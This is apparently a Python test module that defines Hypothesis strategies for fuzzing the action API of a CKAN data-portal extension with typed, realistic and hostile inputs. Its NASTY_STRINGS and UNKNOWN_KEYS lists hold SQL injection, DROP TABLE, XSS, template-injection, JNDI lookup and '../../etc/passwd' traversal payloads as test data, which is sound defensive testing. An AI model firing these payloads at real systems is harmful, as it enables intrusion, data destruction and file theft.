"""Hypothesis strategies for the inputs of the action API (used by test_fuzz.py).

Three families of values:

- ``typed``: values of a parameter's declared kind (logic/schema.py ``Param``), within or at its
  bounds and lengths, drawn from its enum, or one of the portal's real ids and names;
- ``meant``: values as the action is meant to be used now: the letters and items it acts on in
  their state, the entries no letter holds, the years of the Daftar Data, realistic rows;
- ``hostile``: anything else a client can send: wrong types, huge numbers, NaN, nested lists and
  dicts, 10,000-character strings, emoji, RTL marks, combining characters, lone surrogates, NUL
  and other control characters, SQL and HTML payloads, LIKE wildcards, ids made almost right.

``data_dicts`` mixes typed and hostile values into whole inputs of an action: parameters present
or missing (required ones too), plus unknown parameter names now and then; ``requests`` pairs
inputs with roles, a third of them as meant.
"""
from __future__ import annotations

import dataclasses
import datetime as dt
import io
import math
from collections.abc import Sequence
from typing import Any

from hypothesis import strategies as st
from werkzeug.datastructures import FileStorage

from ckanext.sopsektoral.logic.schema import INT_BOUND, Param

UNKNOWN_ID = "3f1c2d4e-0000-4000-8000-000000000000"

# What a person may type: no control characters (a multi-line text also has tab and newlines).
TYPED_CHARS = st.characters(codec="utf-8", exclude_categories=("Cc", "Cs"))
TEXT_CHARS = st.one_of(TYPED_CHARS, st.sampled_from("\n\t\r"))

NASTY_STRINGS: tuple[str, ...] = (
    "", " ", "\x00", "a\x00b", "\x01\x02\x1b[31m", "\x7f", "\x0b\x0c", "\ud800", "a\udfffb",
    "' OR 1=1 --", "'; DROP TABLE sopsektoral_letter; --", '" OR ""="', "%", "_", "%_%", "\\", "\\x00",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://x/a}",
    "../../etc/passwd", "😀" * 10, "\u202eevil\u202c", "مرحبا بالعالم", "e\u0301" * 50, "\ufeff", "\u200b",
    "null", "None", "true", "NaN", "-1", "1e309", "0x10", "99999999999999999999", " 2026 ",
    "a" * 10_001, "😀" * 10_001, "2026-02-30", "9999-12-31", "0000-00-00", "-2026-01-01",
    "2026-01-01T00:00:00+07:00",
)

SCALARS: tuple[Any, ...] = (
    None, True, False, 0, -1, 1, 2**31, -(2**31) - 1, 2**63, 10**30, -(10**30), 0.5, -0.0, 1e308,
    math.nan, math.inf, -math.inf,
)

# Columns of the Daftar Data import (daftar_data.py) and spellings of them.
DAFTAR_COLUMNS = (
    "tahun", "opd", "judul_data", "dataset", "konsep", "definisi", "klasifikasi", "ukuran", "satuan",
    "kode_standar_data", "frekuensi", "kode_wilayah", "level_estimasi", "metode_pengumpulan",
    "sumber_data", "data_prioritas", "klasifikasi_akses", "klasifikasi_penyajian", "tahun_data", "judul",
)

UNKNOWN_KEYS = st.one_of(
    st.sampled_from(("__extras", "__junk", "__before", "ignore_auth", "context", "user_id", "ID",
                     "id ", "limit\x00", "", "k" * 500, "<b>x</b>", "' OR 1=1 --", "sop_status")),
    st.text(max_size=20),
)


@dataclasses.dataclass
class Pools:
    """Real values of the portal under test: ids and names to mix into the inputs."""

    letters: list[str]
    items: list[str]
    entries: list[str]
    officers: list[str]  # assignments that may be revoked (not the cast's)
    datasets: list[str]  # ids and names, of both OPDs, public, private and deleted
    orgs: list[str]  # ids, names and titles
    users: list[str]  # ids and names of every role
    spare_users: list[str]  # users that officer_assign may give positions to
    preferred: list[str] = dataclasses.field(default_factory=list)  # what the action acts on now
    free_entries: list[str] = dataclasses.field(default_factory=list)  # entries no letter holds
    years: tuple[int, ...] = (2025, 2026)

    @property
    def every_id(self) -> list[str]:
        return [*self.letters, *self.items, *self.entries, *self.officers, *self.datasets, *self.orgs,
                UNKNOWN_ID]

    def meant(self, action: str, name: str) -> list[str]:
        """The real values parameter ``name`` names when the action is used as meant now."""
        if name in ("id", "ids") and self.preferred:
            return self.preferred
        if name == "items" and self.free_entries:
            return self.free_entries
        return self._relevant(action, name)

    def relevant(self, action: str, name: str) -> list[str]:
        """The real values that parameter ``name`` of ``action`` names when used as meant (those
        it acts on in their state now weigh as much as all the others)."""
        found = self._relevant(action, name)
        if name in ("id", "ids") and self.preferred:
            return [*self.preferred * max(1, len(found) // len(self.preferred)), *found]
        if name == "items" and self.free_entries:
            return [*self.free_entries * max(1, len(found) // len(self.free_entries)), *found]
        return found

    def _relevant(self, action: str, name: str) -> list[str]:
        if name == "id":
            if action in ("sopsektoral_status_show", "sopsektoral_period_list"):
                return self.datasets
            if "_daftar_data_" in action:
                return self.entries
            if action == "sopsektoral_officer_revoke":
                return self.officers
            if "_item_" in action:
                return self.items
            return self.letters
        if action == "sopsektoral_officer_assign" and name == "user":
            return self.spare_users
        if name == "ids":
            if action == "sopsektoral_reindex":
                return self.datasets
            if action == "sopsektoral_daftar_data_list":
                return self.entries
            return self.items
        return {
            "letter_id": self.letters, "item_id": self.items, "items": self.entries,
            "user": self.users, "claimed_by": self.users, "owner_org": self.orgs,
            "dataset_name": self.datasets,
        }.get(name, [])

    def near_misses(self) -> list[str]:
        """Real ids made almost right: padded, upper-cased, truncated, with a NUL or a quote."""
        one = (self.letters or [UNKNOWN_ID])[0]
        return [one + "\x00", " " + one, one.upper(), one[:-1], one + "'", one + "%", one + "\ud800"]


# ---------------------------------------------------------------- typed values

def _string(param: Param, real: Sequence[str], chars: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    allowed = param.allowed()
    if allowed is not None:
        return st.sampled_from(allowed) if allowed else st.just("")
    if param.pattern:
        return st.from_regex(param.pattern, fullmatch=True)
    longest = param.max_length
    edges = st.sampled_from(("a", "é", "😀", "9")).map(lambda c: c * longest)
    free = st.text(chars, min_size=0 if param.blank else 1, max_size=min(longest, 40))
    if not real:
        return st.one_of(free, edges)
    # Mostly real ids and names: the actions do their work only on those.
    ids = st.sampled_from(list(real))
    return st.one_of(ids, ids, ids, free, edges)


def _integer(param: Param) -> st.SearchStrategy[Any]:
    low = param.minimum if param.minimum is not None else -INT_BOUND
    high = param.maximum if param.maximum is not None else INT_BOUND
    numbers = st.one_of(st.sampled_from((low, high)), st.integers(low, high))
    return st.one_of(numbers, numbers.map(str))


def _date() -> st.SearchStrategy[str]:
    days = st.one_of(st.sampled_from((dt.date(1900, 1, 1), dt.date(2200, 12, 31), dt.date.today())),
                     st.dates(dt.date(1900, 1, 1), dt.date(2200, 12, 31)))
    return days.map(dt.date.isoformat)


def _csv(rows: list[dict[str, Any]]) -> bytes:
    columns = list(dict.fromkeys(k for row in rows for k in row)) or ["tahun", "opd", "judul_data"]
    lines = [",".join(columns)]
    for row in rows:
        lines.append(",".join(str(row.get(c, "")).replace(",", " ").replace("\n", " ") for c in columns))
    return ("\n".join(lines) + "\n").encode("utf-8", "surrogatepass")


def daftar_rows(pools: Pools, *, realistic_only: bool = False) -> st.SearchStrategy[list[dict[str, Any]]]:
    """Rows of a Daftar Data: realistic (a year, an OPD, a title) or not."""
    cell = st.one_of(st.text(TYPED_CHARS, max_size=30), st.integers(-5, 3000),
                     st.floats(allow_nan=False, allow_infinity=False), st.none())
    realistic = st.fixed_dictionaries(
        {"tahun": st.sampled_from(pools.years), "opd": st.sampled_from(pools.orgs or ["x"]),
         "judul_data": st.text(st.characters(codec="ascii", categories=("L", "Zs")), min_size=3, max_size=40)},
        optional={"satuan": st.sampled_from(("unit", "persen", "")), "frekuensi": st.sampled_from(("tahunan", "x")),
                  "dataset": st.sampled_from(pools.datasets or ["x"]), "kode_wilayah": st.text(max_size=8)},
    )
    loose = st.dictionaries(st.one_of(st.sampled_from(DAFTAR_COLUMNS), st.text(TYPED_CHARS, max_size=10)),
                            cell, max_size=6)
    if realistic_only:
        return st.lists(realistic, min_size=1, max_size=3)
    return st.lists(st.one_of(realistic, loose), max_size=4)


def _file(pools: Pools, *, realistic_only: bool = False) -> st.SearchStrategy[FileStorage]:
    if realistic_only:
        content, name = daftar_rows(pools, realistic_only=True).map(_csv), st.just("daftar.csv")
    else:
        content = st.one_of(daftar_rows(pools).map(_csv), st.binary(max_size=200),
                            st.sampled_from((b"", b"PK\x03\x04garbage", b"\xff\xfe\x00\x00", b"tahun\n" * 50)))
        name = st.sampled_from(("daftar.csv", "daftar.xlsx", "daftar.CSV", "daftar.txt", "", "x.csv.exe"))
    return st.builds(lambda c, n: FileStorage(io.BytesIO(c), n), content, name)


def typed(param: Param, pools: Pools, real: Sequence[str] = ()) -> st.SearchStrategy[Any]:
    """Values of ``param``'s declared kind (``real``: ids and names it may name)."""
    kind = param.kind
    if kind == "string":
        return _string(param, real, TYPED_CHARS)
    if kind == "text":
        return _string(param, real, TEXT_CHARS)
    if kind == "integer":
        return _integer(param)
    if kind == "boolean":
        return st.one_of(st.booleans(), st.sampled_from(("true", "false", "True", " FALSE ")))
    if kind == "date":
        return _date()
    if kind == "string_list":
        entry = _string(dataclasses.replace(param, kind="string"), real, TYPED_CHARS)
        return st.one_of(st.lists(entry, max_size=min(param.max_items, 4)), entry)
    if kind == "object":
        keys = param.allowed_keys() or ()
        return st.dictionaries(st.sampled_from(keys), st.booleans()) if keys else st.just({})
    if kind == "file":
        return _file(pools)
    if kind == "rows":
        return daftar_rows(pools)
    raise AssertionError(f"no strategy for the kind {kind}")


def meant(name: str, param: Param, pools: Pools, real: Sequence[str]) -> st.SearchStrategy[Any]:
    """Values as the action means them: the objects it acts on in their state now, the years of
    the portal's Daftar Data, realistic rows and files; else typed values."""
    if real and param.kind in ("string", "text") and param.allowed() is None:
        return st.sampled_from(list(real))
    if real and param.kind == "string_list" and param.allowed() is None:
        return st.lists(st.sampled_from(list(real)), min_size=1, max_size=3, unique=True)
    if param.kind == "integer" and name in ("year", "data_year"):
        return st.sampled_from(pools.years)
    if param.kind == "rows":
        return daftar_rows(pools, realistic_only=True)
    if param.kind == "file":
        return _file(pools, realistic_only=True)
    return typed(param, pools, real)


# ---------------------------------------------------------------- hostile values

def hostile(pools: Pools, *, python: bool = False) -> st.SearchStrategy[Any]:
    """Anything a client can send instead (``python``: also what only Python callers can pass)."""
    scalar = st.one_of(st.sampled_from(SCALARS), st.sampled_from(NASTY_STRINGS), st.integers(), st.floats(),
                       st.text(st.characters(codec="utf-8"), max_size=30))
    nested = st.recursive(scalar, lambda inner: st.one_of(
        st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=5), inner, max_size=3)), max_leaves=8)
    options = [
        st.sampled_from(SCALARS), st.sampled_from(NASTY_STRINGS), st.sampled_from(pools.near_misses()),
        st.sampled_from(pools.every_id).map(lambda i: [i, {"id": i}]), st.sampled_from(pools.every_id).map(list),
        st.lists(st.dictionaries(st.text(max_size=5), scalar, max_size=2), max_size=2), nested,
        st.just([[[[[[[[["deep"]]]]]]]]]), st.just(["x"] * 5001), st.just({str(i): i for i in range(200)}),
    ]
    if python:
        options.append(st.sampled_from((b"\x00id", b"", ("a", "b"), frozenset({"a"}), dt.date(2026, 1, 1))))
    return st.one_of(*options)


def data_dicts(action: str, params: dict[str, Param], pools: Pools, *,
               python: bool = False) -> st.SearchStrategy[dict[str, Any]]:
    """Whole inputs of ``action``: each parameter missing, typed or hostile; sometimes an unknown
    one. (Build it once per test and draw from it: building strategies costs more than drawing.)"""
    bad = hostile(pools, python=python)
    good = {name: typed(param, pools, pools.relevant(action, name)) for name, param in params.items()}
    unknown_key = UNKNOWN_KEYS.filter(lambda k: k not in params)
    unknown_value = st.one_of(st.sampled_from(pools.every_id), bad)

    @st.composite
    def inputs(draw: st.DrawFn) -> dict[str, Any]:
        mode = draw(st.sampled_from(("typed", "typed", "mixed", "hostile")))
        out: dict[str, Any] = {}
        for name, param in params.items():
            present = draw(st.integers(0, 7)) > 0 if param.required else draw(st.booleans())
            if not present:
                continue
            if mode == "typed" or (mode == "mixed" and draw(st.booleans())):
                out[name] = draw(good[name])
            else:
                out[name] = draw(bad)
        if draw(st.integers(0, 5)) == 0:
            out[draw(unknown_key)] = draw(unknown_value)
        return out

    return inputs()


def requests(action: str, params: dict[str, Param], pools: Pools, *, roles: Sequence[str],
             likely: Sequence[str], python: bool = False) -> st.SearchStrategy[tuple[str, dict[str, Any]]]:
    """(role, input) pairs of ``action``: a third as it is meant to be used (a role its auth lets
    through, the objects it acts on now, every required parameter, typed values, nothing unknown),
    the others anything (any role, ``data_dicts``)."""
    good = {name: meant(name, param, pools, pools.meant(action, name)) for name, param in params.items()}

    @st.composite
    def as_meant(draw: st.DrawFn) -> dict[str, Any]:
        return {name: draw(good[name]) for name, param in params.items() if param.required or draw(st.booleans())}

    anything = st.tuples(st.sampled_from(list(roles)), data_dicts(action, params, pools, python=python))
    return st.one_of(st.tuples(st.sampled_from(list(likely or roles)), as_meant()), anything, anything)
